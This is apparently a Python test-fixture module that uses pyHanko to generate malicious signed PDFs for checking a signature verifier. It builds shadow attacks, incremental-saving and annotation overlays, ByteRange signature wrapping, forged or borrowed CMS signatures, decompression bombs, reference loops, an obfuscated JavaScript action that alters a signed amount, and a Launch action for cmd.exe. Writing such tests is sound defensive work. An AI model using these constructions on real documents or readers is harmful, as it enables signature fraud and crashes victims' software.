"""Attacks on signed PDFs: what was published since 2019, and files that are made to hang their reader."""

from __future__ import annotations

import re
import zlib
from collections.abc import Callable
from io import BytesIO

from asn1crypto import cms
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import PdfFileWriter

from axis.demo.authority import Credential
from tests.signing.pdf_making import (
    appended,
    blank,
    dictionary,
    fill_in_amount,
    person_only,
    signed,
    with_amount,
    written,
)
from tests.signing.pki import credential

_GAP = re.compile(rb"<([0-9A-Fa-f]{1000,})>")
_RANGE = re.compile(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\]\s*")


def _leader() -> Credential:
    return credential("Nguyễn Văn A")


# ── Incremental saving and evil annotation ───────────────────────────────────────────────────────────────────────────


def incremental_saving() -> bytes:
    """A later revision shows another text on the signed page."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0]
        page["/Contents"] = writer.add_object(generic.StreamObject(stream_data=b"BT (Quyet dinh khac) Tj ET"))
        writer.update_container(page)

    return appended(person_only(), change)


def evil_annotation() -> bytes:
    """A later revision lays a white note with another amount over the signed text."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0]
        note = dictionary(
            Type=pdf_name("/Annot"),
            Subtype=pdf_name("/FreeText"),
            Rect=generic.ArrayObject(generic.NumberObject(one) for one in (0, 0, 595, 842)),
            Contents=generic.TextStringObject("900.000.000"),
        )
        page["/Annots"].append(writer.add_object(note))
        writer.update_container(page["/Annots"])

    return appended(person_only(), change)


# ── Shadow attacks: the hidden text is there when the victim signs ───────────────────────────────────────────────────


def shadow_hide() -> bytes:
    """The signed page is covered by a sheet that a later revision takes away."""

    def cover(writer: PdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0]
        sheet = writer.add_object(generic.StreamObject(stream_data=b"1 g 0 0 595 842 re f"))
        page["/Contents"] = generic.ArrayObject([page.raw_get("/Contents"), sheet])

    def uncover(writer: IncrementalPdfFileWriter) -> None:
        sheet = writer.root["/Pages"]["/Kids"][0]["/Contents"][1]
        sheet._data = b"n"
        sheet._encoded_data = None
        writer.update_container(sheet)

    return appended(signed(blank(cover), _leader()), uncover)


def shadow_replace() -> bytes:
    """The amount stands in a text field, which may be filled in after the signature."""
    return appended(signed(blank(with_amount), _leader()), fill_in_amount)


def shadow_hide_and_replace() -> bytes:
    """A second page tree lies in the signed file; a later revision makes it the document."""

    def hide(writer: PdfFileWriter) -> None:
        text = writer.add_object(generic.StreamObject(stream_data=b"BT (Toi dong y) Tj ET"))
        page = writer.root["/Pages"]["/Kids"][0]
        twin = writer.add_object(generic.DictionaryObject({**page, pdf_name("/Contents"): text}))
        tree = dictionary(Type=pdf_name("/Pages"), Kids=generic.ArrayObject([twin]), Count=generic.NumberObject(1))
        writer.root["/Hidden"] = writer.add_object(tree)

    def swap(writer: IncrementalPdfFileWriter) -> None:
        writer.root["/Pages"] = writer.root.raw_get("/Hidden")
        writer.update_root()

    return appended(signed(blank(hide), _leader()), swap)


# ── Signature wrapping: a range that covers something else ───────────────────────────────────────────────────────────


def gap_too_large() -> bytes:
    """The range leaves out more than the signature: room for objects that nobody signed."""
    octets = person_only()
    start, end = _gap(octets)
    return _ranged(octets, start, end + 20)


def overlapping_range() -> bytes:
    """The halves overlap: what lies in both is digested twice, what the gap should be not left out."""
    octets = person_only()
    start, _ = _gap(octets)
    return _ranged(octets, start, start - 100)


def range_beyond_the_file() -> bytes:
    """The second half ends after the file does."""
    octets = person_only()
    start, end = _gap(octets)
    return _ranged(octets, start, end, rest=len(octets))


def second_contents() -> bytes:
    """Inside the gap, which no digest covers, a second `Contents` follows the signed one."""
    octets = person_only()
    _, end = _gap(octets)
    second = b"> /Contents <00>"
    return octets[: end - len(second)] + second + octets[end:]


def borrowed_gap() -> bytes:
    """A later revision holds the signature dictionary; its range still points at the gap of the first one."""

    def move(writer: IncrementalPdfFileWriter) -> None:
        signature = writer.root["/AcroForm"]["/Fields"][0]["/V"]
        signature["/Name"] = generic.TextStringObject("Nguyen Van B")
        writer.mark_update(writer.root["/AcroForm"]["/Fields"][0].raw_get("/V").reference)

    return appended(person_only(), move)


# ── Universal signature forgery: a signature without what makes it one ───────────────────────────────────────────────


def without(key: bytes) -> bytes:
    """The signature dictionary lacks one key, which is named otherwise instead."""
    return person_only().replace(key, b"/X" + key[2:], 1) if person_only().count(key) == 1 else _last(key)


def zeroed_contents() -> bytes:
    """`Contents` is all zeros."""
    return _GAP.sub(lambda found: b"<" + b"0" * len(found[1]) + b">", person_only())


def null_contents() -> bytes:
    """`Contents` is null."""
    return _GAP.sub(lambda found: b"null".ljust(len(found[0])), person_only())


def null_range() -> bytes:
    """`ByteRange` is null."""
    return _RANGE.sub(lambda found: b"/ByteRange null".ljust(len(found[0])), person_only())


def _last(key: bytes) -> bytes:
    head, _, tail = person_only().rpartition(key)
    return head + b"/X" + key[2:] + tail


# ── The message ──────────────────────────────────────────────────────────────────────────────────────────────────────


def two_signers() -> bytes:
    """The message names a second signer."""

    def double(message: cms.ContentInfo) -> None:
        infos = message["content"]["signer_infos"]
        infos.append(infos[0].copy())

    return _with_message(person_only(), double)


def no_signer() -> bytes:
    """The message names nobody."""

    def empty(message: cms.ContentInfo) -> None:
        message["content"]["signer_infos"] = cms.SignerInfos([])

    return _with_message(person_only(), empty)


def encapsulated() -> bytes:
    """The message carries the octets it was made over, instead of those of the file."""

    def fill(message: cms.ContentInfo) -> None:
        message["content"]["encap_content_info"]["content"] = b"another document"

    return _with_message(person_only(), fill)


def borrowed_message() -> bytes:
    """The message is the one of another document that the same person signed."""
    other = signed(blank(stream_xrefs=True), _leader())
    start, end = _gap(other)
    contents = other[start + 1 : end - 1]
    return _GAP.sub(lambda found: b"<" + contents.ljust(len(found[1]), b"0")[: len(found[1])] + b">", person_only())


def old_encoding() -> bytes:
    """The signature says that it is one over a SHA-1 digest."""
    return person_only().replace(b"/ETSI.CAdES.detached", b"/adbe.pkcs7.sha1    ")


# ── Files that hang or fill their reader ─────────────────────────────────────────────────────────────────────────────


def encrypted() -> bytes:
    """Encrypted with an empty password: readable, but not by everybody's reader."""
    writer = PdfFileWriter()
    writer.encrypt("owner", "")
    return written(writer)


def page_tree_loop() -> bytes:
    """A node of the page tree is its own grandchild."""

    def tie(writer: PdfFileWriter) -> None:
        tree = writer.root.raw_get("/Pages")
        node = dictionary(Type=pdf_name("/Pages"), Kids=generic.ArrayObject([tree]), Count=generic.NumberObject(1))
        writer.root["/Pages"]["/Kids"].append(writer.add_object(node))

    return blank(tie)


def many_pages() -> bytes:
    """A page tree that names a hundred thousand pages."""

    def claim(writer: PdfFileWriter) -> None:
        kids = writer.root["/Pages"]["/Kids"]
        kids.extend(generic.IndirectObject(number, 0, writer) for number in range(1_000, 101_000))

    return blank(claim)


def field_tree_loop() -> bytes:
    """A form field is its own child."""

    def tie(writer: PdfFileWriter) -> None:
        field = dictionary(T=generic.TextStringObject("loop"))
        reference = writer.add_object(field)
        field[pdf_name("/Kids")] = generic.ArrayObject([reference])
        writer.root["/AcroForm"] = dictionary(Fields=generic.ArrayObject([reference]))

    return blank(tie)


def object_stream_loop() -> bytes:
    """The object stream with the catalogue lies inside itself."""
    return _with_reference_stream(b"", bytes([2, 0, 1, 0]) * 2)


def object_stream_bomb() -> bytes:
    """An object stream of eight kilobytes that unpacks to eight megabytes."""
    packed = zlib.compress(b" " * 8_000_000)
    header = b"1 0 obj <</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    body = header + packed + b"\nendstream endobj\n"
    return _with_reference_stream(body, bytes([1, 0, 9, 0]) + bytes([2, 0, 1, 0]))


def many_revisions(count: int = 65) -> bytes:
    """A signed document with one empty revision after another."""
    octets = person_only()
    reader = PdfFileReader(BytesIO(octets))
    previous, root, size = reader.last_startxref, reader.root_ref.idnum, int(reader.trailer["/Size"])
    for _ in range(count):
        here = len(octets)
        trailer = f"trailer\n<</Size {size}/Root {root} 0 R/Prev {previous}>>\nstartxref\n{here}\n%%EOF\n"
        octets += b"xref\n0 0\n" + trailer.encode("ascii")
        previous = here
    return octets


def later_hybrid() -> bytes:
    """A later revision has a table of references and a stream beside it: two readers see two documents."""
    octets = person_only()
    reader = PdfFileReader(BytesIO(octets))
    number, root = int(reader.trailer["/Size"]), reader.root_ref.idnum
    stream = len(octets)
    head = f"{number} 0 obj <</Type/XRef/Size {number + 1}/Index[0 0]/W[1 2 1]/Root {root} 0 R/Length 0>>stream\n"
    octets += head.encode("ascii") + b"\nendstream endobj\n"
    table = len(octets)
    trailer = f"<</Size {number + 1}/Root {root} 0 R/XRefStm {stream}/Prev {reader.last_startxref}>>"
    return octets + f"xref\n0 0\ntrailer\n{trailer}\nstartxref\n{table}\n%%EOF\n".encode("ascii")


def references_in_a_ring() -> bytes:
    """The table of references names itself as its predecessor."""
    head = b"%PDF-1.7\n"
    trailer = f"xref\n0 0\ntrailer\n<</Size 1/Root 1 0 R/Prev {len(head)}>>\nstartxref\n{len(head)}\n%%EOF\n"
    return head + trailer.encode("ascii")


def many_signatures(count: int = 17) -> bytes:
    """More signature fields than any document has, each with a signature that is none."""

    def add_fields(writer: PdfFileWriter) -> None:
        fields = generic.ArrayObject()
        for number in range(count):
            value = writer.add_object(dictionary(Type=pdf_name("/Sig")))
            name = generic.TextStringObject(f"s{number}")
            fields.append(writer.add_object(dictionary(FT=pdf_name("/Sig"), T=name, V=value)))
        writer.root["/AcroForm"] = dictionary(Fields=fields)

    return blank(add_fields)


def shared_signature() -> bytes:
    """Two fields hold one signature."""

    def share(writer: IncrementalPdfFileWriter) -> None:
        fields = writer.root["/AcroForm"]["/Fields"]
        value = fields[0].raw_get("/V")
        twin = dictionary(FT=pdf_name("/Sig"), T=generic.TextStringObject("twin"), V=value)
        fields.append(writer.add_object(twin))
        writer.update_container(fields)

    return appended(person_only(), share)


# ── Documents that act ────────────────────────────────────────────────────────────────────────────────────────────────


def script_on_opening() -> bytes:
    """A signed document with a script that runs when it is opened."""

    def write(writer: PdfFileWriter) -> None:
        writer.root["/OpenAction"] = _script()

    return signed(blank(write), _leader())


def script_in_an_object_stream() -> bytes:
    """The same script, packed, with its name written in numbers, and behind a list of named scripts."""

    def write(writer: PdfFileWriter) -> None:
        stream = writer.prepare_object_stream()
        names = generic.ArrayObject([generic.TextStringObject("a"), writer.add_object(_script(), obj_stream=stream)])
        writer.root["/Names"] = dictionary(JavaScript=dictionary(Names=names))

    return blank(write, stream_xrefs=True)


def script_under_another_spelling() -> bytes:
    """A script whose action's name is written with a number for a letter."""
    return script_on_opening().replace(b"/JavaScript", b"/J#61vaScript", 1).replace(b"  )", b")", 1)


def script_after_the_signature() -> bytes:
    """A later revision adds a script to the signed document."""

    def write(writer: IncrementalPdfFileWriter) -> None:
        writer.root["/AA"] = dictionary(WC=_script())
        writer.update_root()

    return appended(person_only(), write)


def launched_program() -> bytes:
    """A link on the page that starts a program."""
    action = dictionary(S=pdf_name("/Launch"), F=generic.TextStringObject("cmd.exe"))
    return blank(lambda writer: _link(writer, action))


def scripted_rendition() -> bytes:
    """A link on the page that plays nothing and runs a script."""
    action = dictionary(S=pdf_name("/Rendition"), JS=generic.TextStringObject("app.alert(1)"))
    return blank(lambda writer: _link(writer, action))


def another_form() -> bytes:
    """The form is an XFA form beside the one that is signed."""

    def write(writer: PdfFileWriter) -> None:
        template = writer.add_object(generic.StreamObject(stream_data=b"<xdp:xdp/>"))
        writer.root["/AcroForm"] = dictionary(Fields=generic.ArrayObject(), XFA=template)

    return signed(blank(write), _leader())


def _script() -> generic.DictionaryObject:
    code = generic.TextStringObject("this.getField('amount').value = '900.000.000'  ")
    return dictionary(S=pdf_name("/JavaScript"), JS=code)


def _link(writer: PdfFileWriter, action: generic.DictionaryObject) -> None:
    box = generic.ArrayObject(generic.NumberObject(one) for one in (0, 0, 100, 20))
    link = dictionary(Type=pdf_name("/Annot"), Subtype=pdf_name("/Link"), Rect=box, A=action)
    writer.root["/Pages"]["/Kids"][0]["/Annots"] = generic.ArrayObject([writer.add_object(link)])


# ── Tools ────────────────────────────────────────────────────────────────────────────────────────────────────────────


def _gap(octets: bytes) -> tuple[int, int]:
    found = _GAP.search(octets)
    if found is None:
        raise LookupError("no signature in this file")
    return found.start(), found.end()


def _ranged(octets: bytes, first: int, second: int, rest: int | None = None) -> bytes:
    """The file with another byte range, of the same length in octets."""
    numbers = b"/ByteRange [0 %d %d %d]" % (first, second, len(octets) - second if rest is None else rest)
    return _RANGE.sub(lambda found: numbers.ljust(len(found[0])), octets)


def _with_message(octets: bytes, change: Callable[[cms.ContentInfo], None]) -> bytes:
    """The file with another message in the room its signature has."""
    start, end = _gap(octets)
    message = cms.ContentInfo.load(bytes.fromhex(octets[start + 1 : end - 1].decode("ascii")))
    change(message)
    changed: bytes = message.dump(force=True).hex().encode("ascii")
    if len(changed) > end - start - 2:
        raise LookupError("no room for this message")
    return octets[: start + 1] + changed.ljust(end - start - 2, b"0") + octets[end - 1 :]


def _with_reference_stream(body: bytes, rows: bytes) -> bytes:
    """A file whose objects 0 to 2 are where `rows` of four octets (kind, place in two, index) say; 9 is the start."""
    head = b"%PDF-1.7\n" + body
    rows = bytes([0, 0, 0, 0]) + rows
    size = len(rows) // 4
    place = len(head)
    stream = (
        f"{size} 0 obj <</Type/XRef/Size {size + 1}/Index[0 {size}]/W[1 2 1]/Root 2 0 R/Length {len(rows)}>>stream\n"
    )
    return head + stream.encode("ascii") + rows + f"\nendstream endobj\nstartxref\n{place}\n%%EOF\n".encode("ascii")
